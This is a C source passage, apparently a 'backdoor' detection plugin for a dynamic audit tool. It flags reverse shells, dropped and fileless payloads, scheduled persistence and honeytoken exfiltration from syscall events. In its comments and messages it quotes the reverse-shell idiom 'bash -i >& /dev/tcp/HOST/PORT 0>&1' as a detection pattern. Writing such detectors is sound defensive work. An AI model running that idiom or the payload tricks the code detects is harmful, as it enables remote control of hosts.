		for (fd = 0; fd <= 1 && !owner; fd++) {
			const struct tracked_fd *t = fd_find(p, fd);
			if (t && t->kind == FD_CONNECTED) {
				peer = t->desc;
				owner = p;
			}
		}
		fd--;
	}
	if (!owner || !peer || allowed(st, peer) || rs_reported(st, peer))
		return;
	rs_note(st, peer);
	char msg[768], res[64];
	outcome(ev, res, sizeof(res));
	snprintf(msg, sizeof(msg),
		 "reverse shell: %s runs with its %s on the connection to %s that %s (pid %d) opened%s",
		 exe, fd == 0 ? "stdin" : "stdout", peer, owner->exe[0] ? owner->exe : "the run",
		 owner->pid, res);
	/* the first connect of the owner, when it is the one to this peer */
	const char *port = strrchr(peer, ':');
	const char *ctext = owner->connect_text && port && strstr(owner->connect_text, port + 1)
				    ? owner->connect_text
				    : NULL;
	const char *evidence[3] = {ctext, owner->dup_text, ev->text};
	emit(st, "backdoor.reverse_shell", DA_SEV_CRITICAL, "Reverse shell", msg, ev->pid,
	     ev->time_s, evidence, 3,
	     "Remove the code that runs commands with their input or output on an outgoing connection: this is remote control of the host");
}

/* True when argument a of the runner base makes it take its code from the
 * command line or stdin (python -c, perl -e, sh -c, node -e, php -r ...). */
static bool code_from_cmdline(const char *base, const char *a)
{
	bool long_opt = a[1] == '-';
	if (strcmp(a, "-") == 0)
		return true;
	if (starts_with(base, "python"))
		return !long_opt && (strchr(a + 1, 'c') || strchr(a + 1, 'm'));
	if (starts_with(base, "perl") || starts_with(base, "ruby"))
		return !long_opt && (strchr(a + 1, 'e') || strchr(a + 1, 'E'));
	if (strcmp(base, "node") == 0 || strcmp(base, "nodejs") == 0)
		return strcmp(a, "--eval") == 0 || strcmp(a, "--print") == 0 ||
		       (!long_opt && (strchr(a + 1, 'e') || strchr(a + 1, 'p')));
	if (starts_with(base, "php"))
		return strcmp(a, "-r") == 0 || strcmp(a, "-R") == 0 || strcmp(a, "-B") == 0 ||
		       strcmp(a, "-E") == 0;
	if (starts_with(base, "lua"))
		return strcmp(a, "-e") == 0;
	/* shells */
	return !long_opt && a[0] == '-' && (strchr(a + 1, 'c') || strchr(a + 1, 's'));
}

/* True when option a of the runner base takes the next argument as its value. */
static bool option_takes_value(const char *base, const char *a)
{
	static const char *const loader[] = {"--library-path", "--preload", "--audit", "--argv0",
					     "--inhibit-rpath", "--glibc-hwcaps-prepend",
					     "--glibc-hwcaps-mask", NULL};
	static const char *const python[] = {"-W", "-X", "--check-hash-based-pycs", NULL};
	static const char *const ruby[] = {"-I", "-r", NULL};
	static const char *const node[] = {"-r", "--require", "--import", "--loader",
					   "--experimental-loader", "-C", "--conditions", NULL};
	static const char *const php[] = {"-d", "-c", "-z", "-t", "-S", NULL};
	static const char *const lua[] = {"-l", NULL};
	static const char *const shell[] = {"-o", "+o", "-O", "+O", "--rcfile", "--init-file", NULL};
	const char *const *list = is_loader(base)                 ? loader
				  : starts_with(base, "python")   ? python
				  : starts_with(base, "ruby")     ? ruby
				  : starts_with(base, "perl")     ? NULL
				  : strcmp(base, "node") == 0 || strcmp(base, "nodejs") == 0 ? node
				  : starts_with(base, "php")      ? php
				  : starts_with(base, "lua")      ? lua
								  : shell;
	for (; list && *list; list++)
		if (strcmp(a, *list) == 0)
			return true;
	return false;
}

/* The script a runner is asked to run (the program, for ld.so): its first
 * argument that is neither an option nor an option's value.  NULL when the
 * code comes from the command line or stdin. */
static const char *script_arg(const char *base, int argc, const char *const *argv)
{
	bool shell = !is_loader(base) && !starts_with(base, "python") && !starts_with(base, "perl") &&
		     !starts_with(base, "ruby") && !starts_with(base, "php") &&
		     !starts_with(base, "lua") && strcmp(base, "node") != 0 &&
		     strcmp(base, "nodejs") != 0;
	for (int i = 1; i < argc; i++) {
		const char *a = argv[i];
		if (!a || !a[0])
			return NULL;
		if (strcmp(a, "--") == 0)
			return i + 1 < argc ? argv[i + 1] : NULL;
		if (a[0] != '-' && !(shell && a[0] == '+'))
			return a;
		if (!is_loader(base) && code_from_cmdline(base, a))
			return NULL;
		if (starts_with(base, "php") && strcmp(a, "-f") == 0)
			return i + 1 < argc ? argv[i + 1] : NULL;
		if (option_takes_value(base, a))
			i++;
	}
	return NULL;
}

/* `python3 /tmp/.x.py`, `sh /tmp/.u.sh`, `ld-linux-x86-64.so.2 ./build.dat`:
 * the program exec'd is a clean system binary, the code is its argument. */
static void check_script_arg(struct backdoor *st, struct proc *p, const struct da_event *ev,
			     const char *exe)
{
	const char *base = da_prog_base_name(exe);
	bool loader = is_loader(base);
	if ((!loader && !da_prog_is_script_runner(base)) || !ev->argv || ev->argc < 2)
		return;
	if (ev->err == ENOENT || ev->err == ENOTDIR)
		return; /* a PATH search miss: the runner is not there, nothing ran */
	const char *arg = script_arg(base, ev->argc, ev->argv);
	const char *cwd = p && p->cwd ? p->cwd : st->workdir;
	char path[4096];
	if (!arg || (arg[0] != '/' && cwd[0] != '/') || !da_path_normalize(arg, cwd, path, sizeof(path)))
		return;
	char msg[768], res[64], how[96];
	outcome(ev, res, sizeof(res));
	if (loader)
		snprintf(how, sizeof(how), "through the dynamic loader %s", base);
	else
		snprintf(how, sizeof(how), "with %s", base);
	const char *rec = "Remove the code that writes scripts or programs and then runs them";
	if (p)
		replace_text(&p->script, path); /* its read of the script is this exec */
	const struct dropped *d = dropped_find(st, path);
	const struct work_write *w = loader && !d ? work_find(st, path) : NULL;
	if (d && !d->setup) {
		snprintf(msg, sizeof(msg), "dropped payload: runs %s, which it wrote, %s%s", path,
			 how, res);
		const char *evidence[2] = {d->text, ev->text};
		emit(st, "backdoor.dropped_payload", DA_SEV_CRITICAL, "Dropped payload executed", msg,
		     ev->pid, ev->time_s, evidence, 2, rec);
	} else if (w) {
		/* a build output is written by the toolchain, never by a script */
		snprintf(msg, sizeof(msg),
			 "dropped payload: runs %s %s, a file %s wrote in the workdir during the run%s",
			 path, how, w->writer[0] ? w->writer : "the run", res);
		const char *evidence[2] = {w->text, ev->text};
		emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Dropped payload executed", msg,
		     ev->pid, ev->time_s, evidence, 2, rec);
	} else if (loader && !d && in_temp_dir(path) && !in_workdir(st, path)) {
		snprintf(msg, sizeof(msg), "executes %s from a writable temporary directory %s%s",
			 path, how, res);
		const char *evidence[1] = {ev->text};
		emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Executes from /tmp", msg, ev->pid,
		     ev->time_s, evidence, 1, rec);
	}
}

static bool is_fileless(const struct da_event *ev, const char *path)
{
	if (ev->detail && strcmp(ev->detail, "memfd") == 0)
		return true;
	if (!path)
		return false;
	if (strstr(path, "memfd:") || starts_with(path, "/dev/fd/"))
		return true;
	return starts_with(path, "/proc/") && strstr(path, "/fd/");
}

static void on_exec(struct backdoor *st, const struct da_event *ev)
{
	struct proc *p = proc_get(st, ev->pid, ev->ppid);
	const char *exe = ev->path ? ev->path : (ev->argc > 0 && ev->argv ? ev->argv[0] : NULL);
	char msg[768], res[64];
	outcome(ev, res, sizeof(res));
	const char *rec = "Remove the code that writes and runs hidden or temporary executables";

	bool shell_reported = exe && is_shell_like(exe) && check_shell(st, p, ev, exe);
	if (exe && !shell_reported)
		check_stdio_socket(st, p, ev, exe);
	if (exe)
		check_script_arg(st, p, ev, exe);
	if (p && exe && ev->err == 0)
		snprintf(p->exe, sizeof(p->exe), "%s", da_prog_base_name(exe));
	if (is_fileless(ev, exe)) {
		snprintf(msg, sizeof(msg), "dropped payload: executes an in-memory file (%s)%s",
			 exe ? exe : "memfd", res);
		const char *evidence[1] = {ev->text};
		emit(st, "backdoor.dropped_payload", DA_SEV_CRITICAL, "Fileless execution", msg,
		     ev->pid, ev->time_s, evidence, 1, rec);
	} else if (exe) {
		const struct dropped *d = dropped_find(st, exe);
		if (d && d->setup) {
			/* built or installed by target.setup: expected */
		} else if (d) {
			snprintf(msg, sizeof(msg), "dropped payload: executes %s, which it wrote%s", exe,
				 res);
			const char *evidence[2] = {d->text, ev->text};
			emit(st, "backdoor.dropped_payload", DA_SEV_CRITICAL,
			     "Dropped payload executed", msg, ev->pid, ev->time_s, evidence, 2, rec);
		} else if (in_temp_dir(exe) && !in_workdir(st, exe)) {
			snprintf(msg, sizeof(msg), "executes %s from a writable temporary directory%s",
				 exe, res);
			const char *evidence[1] = {ev->text};
			emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Executes from /tmp", msg,
			     ev->pid, ev->time_s, evidence, 1, rec);
		}
	}
	/* scheduling tools plant persistence without touching files themselves */
	const char *base = da_prog_base_name(exe);
	bool lists_only = false, enables = false;
	for (int i = 1; ev->argv && i < ev->argc; i++) {
		if (ev->argv[i] && (strcmp(ev->argv[i], "-l") == 0 || strcmp(ev->argv[i], "-r") == 0))
			lists_only = true;
		if (ev->argv[i] && (strcmp(ev->argv[i], "enable") == 0 || strcmp(ev->argv[i], "link") == 0))
			enables = true;
	}
	if ((strcmp(base, "crontab") == 0 && !lists_only) || strcmp(base, "at") == 0 ||
	    strcmp(base, "batch") == 0 || (strcmp(base, "systemctl") == 0 && enables)) {
		snprintf(msg, sizeof(msg), "plants persistence: runs %s%s", base, res);
		const char *evidence[1] = {ev->text};
		emit(st, "backdoor.persistence", DA_SEV_HIGH, "Persistence planted", msg, ev->pid,
		     ev->time_s, evidence, 1,
		     "Remove the code that schedules jobs or services; a submission must leave no trace after it exits");
	}
}

/* JVM libraries that unpack their own native code to /tmp or ~/.cache and
 * load it (sqlite-jdbc, JNA, Netty, snappy-java ...). */
static bool is_known_extractor(const char *base)
{
	static const char *const prefixes[] = {
		"sqlite-", "libsqlitejdbc", "jna", "libjnidispatch", "libnetty_", "netty_",
		"snappy-", "libsnappyjava", "liblz4-java", "libzstd-jni", "librocksdbjni",
		"libconscrypt", "libleveldbjni"};
	for (size_t i = 0; i < sizeof(prefixes) / sizeof(prefixes[0]); i++)
		if (starts_with(base, prefixes[i]))
			return true;
	return false;
}

static void on_mmap_exec(struct backdoor *st, const struct da_event *ev)
{
	const char *path = ev->path ? ev->path : ev->fd_desc;
	if (!path)
		return;
	const char *base = da_prog_base_name(path);
	bool libffi = strstr(path, "memfd:libffi") ||
		      (in_temp_dir(path) && starts_with(base, "ffi") && !strstr(base, ".so"));
	if (libffi || is_known_extractor(base))
		return; /* trampolines and libraries unpacked from the program's own jar */
	char msg[768];
	const char *rec = "Load code only from the submission or the system library directories";
	const struct dropped *d = dropped_find(st, path);
	const struct work_write *w;
	if (d && d->setup)
		return; /* installed by target.setup (pip install --user ...) */
	if (strstr(path, "memfd:")) {
		snprintf(msg, sizeof(msg), "dropped payload: maps an in-memory file as code (%s)", path);
		const char *evidence[1] = {ev->text};
		emit(st, "backdoor.dropped_payload", DA_SEV_CRITICAL, "Fileless code", msg, ev->pid,
		     ev->time_s, evidence, 1, rec);
	} else if (d) {
		snprintf(msg, sizeof(msg), "dropped payload: loads %s as code, a file it wrote", path);
		const char *evidence[2] = {d->text, ev->text};
		emit(st, "backdoor.dropped_payload", DA_SEV_CRITICAL, "Dropped payload loaded", msg,
		     ev->pid, ev->time_s, evidence, 2, rec);
	} else if ((w = work_find(st, path)) != NULL && w->interp && strstr(base, ".so") &&
		   !strstr(path, "-packages/")) {
		/* a native library comes from a compiler (a build in setup or in
		 * the run), not from a script writing bytes (base64 -> ctypes);
		 * pip's site-packages/dist-packages unpacking is not counted */
		snprintf(msg, sizeof(msg),
			 "dropped payload: loads %s as code, a library %s wrote in the workdir during the run",
			 path, w->writer);
		const char *evidence[2] = {w->text, ev->text};
		emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Dropped payload loaded", msg,
		     ev->pid, ev->time_s, evidence, 2, rec);
	} else if (path[0] == '/' && !in_workdir(st, path) &&
		   (in_temp_dir(path) || under(path, st->home, st->home_len))) {
		snprintf(msg, sizeof(msg), "loads the library %s from a writable directory", path);
		const char *evidence[1] = {ev->text};
		emit(st, "backdoor.writable_library", DA_SEV_HIGH, "Library from a writable directory",
		     msg, ev->pid, ev->time_s, evidence, 1, rec);
	}
}

/* dup2(3, 0) / dup3(3<socket:[...]>, 1, 0): fd numbers from the event or text. */
static bool parse_dup(const struct da_event *ev, int *from, int *to)
{
	if (ev->fd >= 0 && ev->target_fd >= 0) {
		*from = ev->fd;
		*to = ev->target_fd;
		return true;
	}
	const char *open = ev->text ? strchr(ev->text, '(') : NULL;
	if (!open)
		return false;
	char *end;
	long a = strtol(open + 1, &end, 10);
	if (end == open + 1)
		return false;
	const char *comma = strchr(end, ',');
	if (!comma)
		return false;
	long b = strtol(comma + 1, &end, 10);
	if (end == comma + 1 || a < 0 || b < 0 || a > 65535 || b > 65535)
		return false;
	*from = (int)a;
	*to = (int)b;
	return true;
}

static void on_other(struct backdoor *st, const struct da_event *ev)
{
	if (!ev->syscall || ev->err != 0 || ev->result < 0)
		return;
	bool is_dup = strcmp(ev->syscall, "dup2") == 0 || strcmp(ev->syscall, "dup3") == 0;
	bool is_close = strcmp(ev->syscall, "close") == 0;
	if (!is_dup && !is_close)
		return;
	struct proc *p = proc_find(st, ev->pid);
	if (!p)
		return; /* nothing tracked: nothing to move or forget */
	if (is_close) {
		int fd = ev->fd;
		if (fd < 0 && ev->text) {
			const char *open = strchr(ev->text, '(');
			fd = open ? (int)strtol(open + 1, NULL, 10) : -1;
		}
		fd_forget(p, fd);
		return;
	}
	int from, to;
	if (!parse_dup(ev, &from, &to) || from == to)
		return;
	const struct tracked_fd *src = fd_find(p, from);
	if (!src) {
		fd_forget(p, to); /* overwritten by something we do not track */
		return;
	}
	struct tracked_fd copy = *src;
	fd_track(p, to, copy.kind, copy.desc);
	if (to <= 2 && (copy.kind == FD_CONNECTED || copy.kind == FD_ACCEPTED) && !p->dup_text)
		p->dup_text = copy_text(ev->text);
}

static void on_fork(struct backdoor *st, const struct da_event *ev)
{
	if (ev->target_pid <= 0 || (ev->detail && strcmp(ev->detail, "thread") == 0))
		return;
	/* the parent is remembered too: a child may read secrets for it */
	struct proc *parent = proc_get(st, ev->pid, ev->ppid);
	struct proc *child = proc_get(st, ev->target_pid, ev->pid);
	if (!child || !parent)
		return;
	child->ppid = ev->pid;
	/* the child inherits its parent's descriptors and what it learned */
	memcpy(child->fds, parent->fds, sizeof(parent->fds));
	child->n_fds = parent->n_fds;
	replace_text(&child->connect_text, parent->connect_text);
	replace_text(&child->accept_text, parent->accept_text);
	replace_text(&child->dup_text, parent->dup_text);
	replace_text(&child->cwd, parent->cwd);
	/* a fork runs its parent's program until it execs */
	snprintf(child->exe, sizeof(child->exe), "%s", parent->exe);
	if (parent->secret)
		give_secret(child, parent->secret, parent->secret_text, parent->secret_weak);
	child->exfil_reported = parent->exfil_reported;
}

/* An interpreter reading source code the run itself dropped outside the
 * workdir: `import helper` from a module written to /tmp, a script
 * required or sourced from there.  No exec shows it: the open is the
 * evidence. */
static void check_dropped_code_load(struct backdoor *st, const struct da_event *ev)
{
	static const char *const code_ext[] = {".py", ".js", ".mjs", ".cjs", ".pl", ".pm", ".rb",
					       ".php", ".lua", ".sh", NULL};
	if (!ev->path || ev->err != 0)
		return;
	const struct dropped *d = dropped_find(st, ev->path);
	if (!d || d->setup)
		return;
	bool code = false;
	for (const char *const *e = code_ext; *e; e++)
		if (has_suffix(ev->path, *e))
			code = true;
	struct proc *p = proc_find(st, ev->pid);
	if (p && p->script && strcmp(p->script, ev->path) == 0)
		return; /* the script it was started on: judged at the exec */
	if (!code || !p || !da_prog_is_script_runner(p->exe))
		return;
	char msg[768];
	snprintf(msg, sizeof(msg), "dropped payload: %s loads code it wrote to %s (an import or require, no exec)",
		 p->exe, ev->path);
	const char *evidence[2] = {d->text, ev->text};
	emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Dropped code loaded", msg, ev->pid, ev->time_s,
	     evidence, 2, "Remove the code that writes source files outside the submission and loads them");
}

static void on_write_like(struct backdoor *st, const struct da_event *ev)
{
	const char *path = NULL;
	switch (ev->kind) {
	case DA_EV_FILE_OPEN:
		if (ev->path && strcmp(ev->path, "/dev/ptmx") == 0 && ev->err == 0) {
			struct proc *p = proc_get(st, ev->pid, ev->ppid);
			if (p)
				p->pty_master = true;
			return;
		}
		if (!(ev->access & (DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC | DA_ACC_APPEND))) {
			on_secret_read(st, ev);
			check_dropped_code_load(st, ev);
			return;
		}
		path = ev->path;
		break;
	case DA_EV_FILE_WRITE:
		path = ev->path ? ev->path : ev->fd_desc;
		break;
	case DA_EV_FILE_RENAME: path = ev->path2; break;
	case DA_EV_FILE_LINK: path = ev->path; break;
	default: return;
	}
	if (!path)
		return;
	if (ev->err == 0 && ev->result >= 0) {
		note_dropped(st, path, ev);
		note_work_write(st, path, ev);
	}
}

/* A POSIX shell opens an inet socket itself only for a /dev/tcp or
 * /dev/udp redirection (`bash -i >& /dev/tcp/H/P 0>&1`): that is the
 * reverse-shell idiom, attempted whether or not the peer answered.  Other
 * programs a shell runs have their own exec and are judged there. */
static void report_shell_connect(struct backdoor *st, const char *exe, const char *dest, int err,
				 bool ok, int pid, double t, const char *text)
{
	char msg[512], res[96];
	if (ok)
		snprintf(res, sizeof(res), "it reached its peer");
	else
		snprintf(res, sizeof(res), "failed: %s (nobody answered, so no shell was handed over)",
			 strerrorname_np(err) ? strerrorname_np(err) : "error");
	snprintf(msg, sizeof(msg),
		 "reverse shell attempted: %s opened a connection to %s itself, the /dev/tcp redirection "
		 "of `bash -i >& /dev/tcp/HOST/PORT`; %s",
		 exe, dest, res);
	rs_note(st, dest);
	const char *evidence[1] = {text};
	emit(st, "backdoor.reverse_shell", DA_SEV_CRITICAL, "Reverse shell attempt", msg, pid, t, evidence,
	     text ? 1 : 0, "Remove the connection from the shell code and find out who was meant to receive the shell");
}

/* A POSIX shell opens an inet socket itself only for a /dev/tcp or
 * /dev/udp redirection (`bash -i >& /dev/tcp/H/P 0>&1`): that is the
 * reverse-shell idiom, attempted whether or not the peer answered.  Other
 * programs a shell runs have their own exec and are judged there. */
static void check_shell_connect(struct backdoor *st, struct proc *p, const struct da_event *ev, bool ok)
{
	if (!p->exe[0] || !(da_prog_is_shell(p->exe) || strcmp(p->exe, "busybox") == 0) ||
	    !ev->addr || allowed(st, ev->addr) || rs_reported(st, ev->addr))
		return;
	if (!ok) {
		report_shell_connect(st, p->exe, ev->addr, ev->err, false, ev->pid, ev->time_s, ev->text);
		return;
	}
	for (size_t i = 0; i < st->n_shell_connects; i++)
		if (strcmp(st->shell_connects[i].dest, ev->addr) == 0)
			return;
	if (st->n_shell_connects == MAX_RS_DESTS)
		return;
	struct shell_connect *c = &st->shell_connects[st->n_shell_connects++];
	snprintf(c->dest, sizeof(c->dest), "%s", ev->addr);
	snprintf(c->exe, sizeof(c->exe), "%s", p->exe);
	c->text = copy_text(ev->text);
	c->pid = ev->pid;
	c->t = ev->time_s;
}

/* At the end: a shell's connection that no exec on it was reported for. */
static void report_shell_connects(struct backdoor *st)
{
	for (size_t i = 0; i < st->n_shell_connects; i++) {
		struct shell_connect *c = &st->shell_connects[i];
		if (!rs_reported(st, c->dest))
			report_shell_connect(st, c->exe, c->dest, 0, true, c->pid, c->t, c->text);
		free(c->text);
		c->text = NULL;
	}
	st->n_shell_connects = 0;
}

static void on_net(struct backdoor *st, const struct da_event *ev)
{
	struct proc *p = proc_get(st, ev->pid, ev->ppid);
	bool ok = ev->err == 0 || ev->err == EINPROGRESS;
	switch (ev->kind) {
	case DA_EV_NET_CONNECT:
		note_contact(st, ev, false);
		if (!p || !(ev->family == AF_INET || ev->family == AF_INET6 || is_net_socket(ev->fd_desc)))
			break;
		p->connected = true;
		if (!p->connect_text)
			p->connect_text = copy_text(ev->text);
		check_shell_connect(st, p, ev, ok);
		if (ok) {
			fd_track(p, ev->fd, FD_CONNECTED, ev->addr);
			note_peer(p, ev->addr);
		}
		check_exfiltration(st, p, ev);
		break;
	case DA_EV_NET_ACCEPT:
		if (!p || ev->err != 0 || ev->target_fd < 0)
			break;
		if (ev->family == AF_UNIX || starts_with(ev->fd_desc, "socket:unix"))
			break;
		if (!p->accept_text)
			p->accept_text = copy_text(ev->text);
		fd_track(p, ev->target_fd, FD_ACCEPTED, ev->addr);
		break;
	case DA_EV_NET_SEND:
		if (is_explicit_send(ev))
			note_contact(st, ev, true);
		if (p)
			check_exfiltration(st, p, ev);
		break;
	case DA_EV_NET_LISTEN:
	case DA_EV_NET_BIND:
		if (ev->err == 0 && ev->family != AF_UNIX && !starts_with(ev->fd_desc, "socket:unix"))
			note_own_port(st, ev->port);
		break;
	default: break;
	}
	note_own_port(st, local_port(ev->fd_desc));
}

static void on_chdir(struct backdoor *st, const struct da_event *ev)
{
	struct proc *p = proc_get(st, ev->pid, ev->ppid);
	if (p && ev->path && ev->path[0] == '/' && ev->err == 0 && ev->result >= 0)
		replace_text(&p->cwd, ev->path);
}

static void on_memfd(struct backdoor *st, const struct da_event *ev)
{
	struct proc *p = proc_get(st, ev->pid, ev->ppid);
	if (p && ev->fd >= 0)
		fd_track(p, ev->fd, FD_MEMFD, ev->detail);
}

/* ---- lifecycle ------------------------------------------------------------ */

static int backdoor_init(const struct da_host *host, const struct da_cfg *cfg, void **state,
			 char *err, size_t errlen)
{
	const char *key;
	for (size_t i = 0; (key = host->cfg_key_at(host, cfg, i)) != NULL; i++) {
		if (strcmp(key, "allow_connect") != 0) {
			snprintf(err, errlen, "%s: %s: unknown option (backdoor knows allow_connect)",
				 host->cfg_where(host, cfg, key), key);
			return -EINVAL;
		}
	}
	const char *const *items = NULL;
	size_t n = host->cfg_list(host, cfg, "allow_connect", &items);
	if (n == 0 && host->cfg_child(host, cfg, "allow_connect")) {
		snprintf(err, errlen, "%s: allow_connect: expected a list of \"host:port\" patterns",
			 host->cfg_where(host, cfg, "allow_connect"));
		return -EINVAL;
	}
	struct backdoor *st = calloc(1, sizeof(*st));
	if (!st || !(st->allow = da_endpoint_list_new())) {
		free(st);
		snprintf(err, errlen, "backdoor: out of memory");
		return -ENOMEM;
	}
	*state = st; /* destroy frees it, also after a refused entry */
	st->host = host;
	if (!(st->honey = bd_honey_new())) {
		snprintf(err, errlen, "backdoor: out of memory");
		return -ENOMEM;
	}
	for (size_t i = 0; i < n; i++) {
		char why[512];
		int rc = da_endpoint_list_add(st->allow, items[i], DA_ENDPOINT_HOST_ALONE | DA_ENDPOINT_UNIX,
					      why, sizeof(why));
		if (rc) {
			snprintf(err, errlen, "%s: allow_connect: %s",
				 host->cfg_where(host, cfg, "allow_connect"), why);
			return rc;
		}
	}
	st->workdir = host->run->workdir ? host->run->workdir : "";
	st->workdir_len = strlen(st->workdir);
	st->home = host->run->home ? host->run->home : "";
	st->home_len = strlen(st->home);
	while (st->workdir_len > 1 && st->workdir[st->workdir_len - 1] == '/')
		st->workdir_len--;
	while (st->home_len > 1 && st->home[st->home_len - 1] == '/')
		st->home_len--;
	*state = st;
	return 0;
}

/* backdoor.honeytoken: a planted decoy value leaving (see the header). */
static void check_honeytoken(struct backdoor *st, const struct da_event *ev)
{
	char msg[512];
	if (!bd_honey_check(st->honey, ev, msg, sizeof(msg)))
		return;
	char sent[320] = "";
	if (ev->kind == DA_EV_NET_SEND && ev->detail)
		snprintf(sent, sizeof(sent), "data sent: %.280s%s", ev->detail,
			 strlen(ev->detail) > 280 ? "..." : "");
	const char *evidence[2] = {ev->text ? ev->text : ev->detail, sent[0] ? sent : NULL};
	emit(st, "backdoor.honeytoken", DA_SEV_CRITICAL, "Credential exfiltration", msg, ev->pid,
	     ev->time_s, evidence, 2,
	     "Find the code that collects credentials and sends them out; the value was a decoy, but a real "
	     "key in its place would have left.");
}

static int backdoor_on_event(void *state, const struct da_event *ev, char *err, size_t errlen)
{
	struct backdoor *st = state;
	if (ev->kind == DA_EV_SYSCALL_OTHER && bd_honey_learn(st->honey, ev))
		return 0;
	check_honeytoken(st, ev);
	switch (ev->kind) {
	case DA_EV_PROC_EXEC: on_exec(st, ev); break;
	case DA_EV_PROC_FORK: on_fork(st, ev); break;
	case DA_EV_PROC_EXIT: {
		struct proc *p = proc_find(st, ev->pid);
		if (p)
			proc_clear(p);
		break;
	}
	case DA_EV_FILE_OPEN:
	case DA_EV_FILE_WRITE:
	case DA_EV_FILE_RENAME:
	case DA_EV_FILE_LINK: on_write_like(st, ev); break;
	case DA_EV_FILE_MMAP_EXEC: on_mmap_exec(st, ev); break;
	case DA_EV_FILE_MEMFD: on_memfd(st, ev); break;
	case DA_EV_NET_CONNECT:
	case DA_EV_NET_ACCEPT:
	case DA_EV_NET_SEND:
	case DA_EV_NET_BIND:
	case DA_EV_NET_LISTEN: on_net(st, ev); break;
	case DA_EV_FILE_CHDIR: on_chdir(st, ev); break;
	case DA_EV_SYSCALL_OTHER: on_other(st, ev); break;
	default: break;
	}
	return 0;
}

static int backdoor_finish(void *state, char *err, size_t errlen)
{
	struct backdoor *st = state;
	const struct da_host *host = st->host;
	report_beacons(st);
	report_shell_connects(st);
	if (st->procs_dropped || st->drops_dropped || st->dests_dropped || st->works_dropped)
		host->log(host, 1,
			  "backdoor: state full, not tracked: %zu processes, %zu files, %zu destinations, %zu workdir files",
			  st->procs_dropped, st->drops_dropped, st->dests_dropped, st->works_dropped);
	if (st->n_findings == 0) {
		host->set_summary(host, "None observed", "No dynamic links, sockets, or file drops");
		return 0;
	}
	char obs[96];
	if (st->n_findings == 1)
		snprintf(obs, sizeof(obs), "%s", st->worst_label);
	else
		snprintf(obs, sizeof(obs), "%s (+%zu more)", st->worst_label, st->n_findings - 1);
	host->set_summary(host, obs, st->worst_message);
	return 0;
}

static void backdoor_destroy(void *state)
{
	struct backdoor *st = state;
	if (!st)
		return;
	for (size_t i = 0; i < MAX_PROCS; i++)
		proc_clear(&st->procs[i]);
	for (size_t i = 0; i < st->n_shell_connects; i++)
		free(st->shell_connects[i].text);
	for (size_t i = 0; i < st->n_drops; i++) {
		free(st->drops[i].path);
		free(st->drops[i].text);
	}
	for (size_t i = 0; i < st->n_works; i++) {
		free(st->works[i].path);
		free(st->works[i].text);
	}
	for (size_t i = 0; i < st->n_dests; i++)
		free(st->dests[i].first_text);
	da_endpoint_list_free(st->allow);
	bd_honey_free(st->honey);
	free(st);
}

static const struct da_plugin backdoor_plugin = {
	DA_PLUGIN_HEADER,
	.name = "backdoor",
	.version = "1.0.0",
	.description = "reverse/bind shells, dropped payloads, persistence, exfiltration, beaconing",
	.category_id = "backdoor",
	.category_title = "Backdoor Indicators",
	.subscriptions = {
		KIND_BIT(DA_EV_PROC_EXEC) | KIND_BIT(DA_EV_PROC_FORK) | KIND_BIT(DA_EV_PROC_EXIT) |
		KIND_BIT(DA_EV_FILE_OPEN) | KIND_BIT(DA_EV_FILE_RENAME) | KIND_BIT(DA_EV_FILE_LINK) |
		KIND_BIT(DA_EV_FILE_MMAP_EXEC) | KIND_BIT(DA_EV_FILE_WRITE) |
		KIND_BIT(DA_EV_FILE_MEMFD) | KIND_BIT(DA_EV_NET_CONNECT) | KIND_BIT(DA_EV_NET_ACCEPT) |
		KIND_BIT(DA_EV_NET_SEND) | KIND_BIT(DA_EV_NET_LISTEN) | KIND_BIT(DA_EV_NET_BIND) |
		KIND_BIT(DA_EV_FILE_CHDIR),
		KIND_BIT(DA_EV_SYSCALL_OTHER), /* kind 90 lives in the second word */
	},
	.init = backdoor_init,
	.on_event = backdoor_on_event,
	.finish = backdoor_finish,
	.destroy = backdoor_destroy,
};

DYNAUDIT_PLUGIN(backdoor_plugin)
